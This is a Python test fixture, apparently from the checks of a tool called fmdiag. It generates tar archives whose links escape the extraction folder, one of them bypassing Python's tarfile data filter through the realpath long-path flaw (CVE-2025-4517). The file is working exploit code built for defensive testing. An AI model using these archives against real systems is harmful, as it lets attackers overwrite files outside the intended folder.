"""Tar archives whose links lead out of the folder that they are unpacked in, past Python's own ``data`` filter.

``python -m checks.hostile.escaping_tar FOLDER`` writes them to a folder. The filter asks `os.path.realpath` where a link
leads; of a path longer than the system allows that function gives up and answers what it was asked (CVE-2025-4517), and
before Python 3.11.4 there is no filter. fmdiag unpacks regular files and folders only, so that all of them are refused.
"""

import io
import sys
import tarfile
from pathlib import Path

LONG = "d" * 247                # sixteen of these are longer than a path may be
STEPS = "abcdefghijklmnop"
CONTENT = b"written from within an archive\n"


def link(archive, name, target, kind=tarfile.SYMTYPE):
    """Add a link to an archive."""
    member = tarfile.TarInfo(name)
    member.type, member.linkname = kind, target
    archive.addfile(member)


def file(archive, name, content=CONTENT):
    """Add a regular file to an archive."""
    member = tarfile.TarInfo(name)
    member.size = len(content)
    archive.addfile(member, io.BytesIO(content))


def folder(archive, name):
    """Add a folder to an archive."""
    member = tarfile.TarInfo(name)
    member.type, member.mode = tarfile.DIRTYPE, 0o755
    archive.addfile(member)


def through_a_long_path(archive, outside):
    """Short links to long folders, each in the last: a link at their end climbs, and `realpath` no longer follows it.

    The filters of Python 3.11 ask where a link would lead from the top folder, later ones from its own: ``d`` is there
    a folder as deep as the climb, here the folder itself.
    """
    path, climb = "", "../" * len(STEPS)
    for k in range(len(STEPS)):
        folder(archive, "/".join("q" * (k + 1)))
    link(archive, "d", "/".join("q" * len(STEPS)))
    for step in STEPS:
        folder(archive, f"{path}{LONG}")
        link(archive, f"{path}{step}", LONG)
        path += f"{LONG}/"
    deepest = "/".join(STEPS)
    link(archive, f"{deepest}/d", ".")
    link(archive, f"{deepest}/{'l' * 254}", f"d/{climb}")
    link(archive, "escape", f"{deepest}/{'l' * 254}/{climb}{str(outside).lstrip('/')}")
    file(archive, "escape/written.png")


def through_a_link(archive, outside):
    """A link to a folder elsewhere, and a file in it: Python before its filters."""
    link(archive, "escape", str(outside))
    file(archive, "escape/written.png")


def through_a_hard_link(archive, outside):
    """A second name of a file elsewhere, which is then written to."""
    link(archive, "written.png", str(outside / "written.png"), tarfile.LNKTYPE)
    file(archive, "written.png")


def through_a_chain(archive, outside):
    """A link to a link that climbs, each harmless by itself where the other is not looked at."""
    link(archive, "up", ".")
    for k in range(40):
        link(archive, f"up{k}", f"{'up' if k == 0 else f'up{k - 1}'}/..")
    link(archive, "escape", f"up39/{str(outside).lstrip('/')}")
    file(archive, "escape/written.png")


ESCAPES = (through_a_long_path, through_a_link, through_a_hard_link, through_a_chain)


def write(escape, path, outside):
    """Write one of ESCAPES as a tar at `path`; unpacked without care, it writes to ``outside/written.png``."""
    with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as archive:
        escape(archive, Path(outside))
    return path


if __name__ == "__main__":
    target = Path(sys.argv[1]).absolute()
    (target / "outside").mkdir(parents=True, exist_ok=True)
    for one in ESCAPES:
        print(write(one, target / f"{one.__name__}.tar", target / "outside"))
